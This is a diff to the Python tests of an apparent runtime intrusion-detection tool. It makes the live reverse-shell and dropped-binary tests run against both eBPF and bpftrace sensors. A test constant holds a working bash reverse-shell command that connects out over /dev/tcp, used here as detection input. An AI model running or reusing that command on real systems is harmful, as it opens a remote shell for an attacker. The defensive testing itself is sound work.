@@ -19,7 +19,7 @@ from garrison.model.runtime import Alert, Event, EventKind, Priority, Process
 from garrison.runtime import execargs
 from garrison.runtime.pipeline import Pipeline
 from garrison.runtime.process import ProcessTable, read_proc
-from garrison.runtime.sensors.bpftrace import SEP, BpftraceSensor, escape, parse_record, unescape
+from garrison.runtime.sensors.bpftrace import SEP, escape, parse_record, unescape
 from garrison.runtime.sensors.proc_connector import ProcConnectorSensor
 
 REVERSE = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
@@ -180,13 +180,15 @@ class SlowTable(ProcessTable):
         return super().observe(event)
 
 
-def test_live_exec_that_execs_again_at_once_is_seen_with_its_own_command_line(tmp_path: Path) -> None:
+@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
+def test_live_exec_that_execs_again_at_once_is_seen_with_its_own_command_line(tmp_path: Path, kernel: str) -> None:
     """The reverse-shell pattern, with the proc connector made to lag: the first program's
     ``/proc`` is gone (replaced by the second) when it is read, and the alert still carries the
     first command line, from the kernel."""
     require_root()
     if shutil.which("bpftrace") is None:
         pytest.fail("bpftrace is needed (make test installs it)")
+    from garrison.runtime.sensors import make_sensor
     marker = f"/dev/tcp/127.0.0.1/{uuid.uuid4().int % 50000 + 10000}"
     rules, delivered = DevTcp(), []
     table = SlowTable()
@@ -196,7 +198,7 @@ def test_live_exec_that_execs_again_at_once_is_seen_with_its_own_command_line(tm
             delivered.append(alert)
             return []
 
-    sensors = [ProcConnectorSensor(), BpftraceSensor(event_types={"execve"})]
+    sensors = [ProcConnectorSensor(), make_sensor(kernel, event_types={"execve"})]
     pipe = Pipeline(sensors, rules, table=table, attributor=False, annotate=False, responders=[Keep()])  # type: ignore[list-item]
     pipe.start()
     try:
@@ -214,7 +216,8 @@ def test_live_exec_that_execs_again_at_once_is_seen_with_its_own_command_line(tm
     assert pipe.stats.exec_corrected >= 1
 
 
-def test_live_dropped_binary_that_runs_a_millisecond_and_is_deleted_is_drift(tmp_path: Path) -> None:
+@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
+def test_live_dropped_binary_that_runs_a_millisecond_and_is_deleted_is_drift(tmp_path: Path, kernel: str) -> None:
     """A binary copied into a container, run (it exits at once) and deleted right away: no /proc
     read can judge it any more, the kernel's answer at the exec (an upper-layer inode) does."""
     require_root()
@@ -224,7 +227,7 @@ def test_live_dropped_binary_that_runs_a_millisecond_and_is_deleted_is_drift(tmp
     from garrison.runtime.sensors import build_sensors
 
     rules = load_rules(default_pack())
-    sensors, _ = build_sensors(["proc", "bpftrace"], event_types=rules.event_types())
+    sensors, _ = build_sensors(["proc", kernel], event_types=rules.event_types())
     got: list[Alert] = []
 
     class Keep:
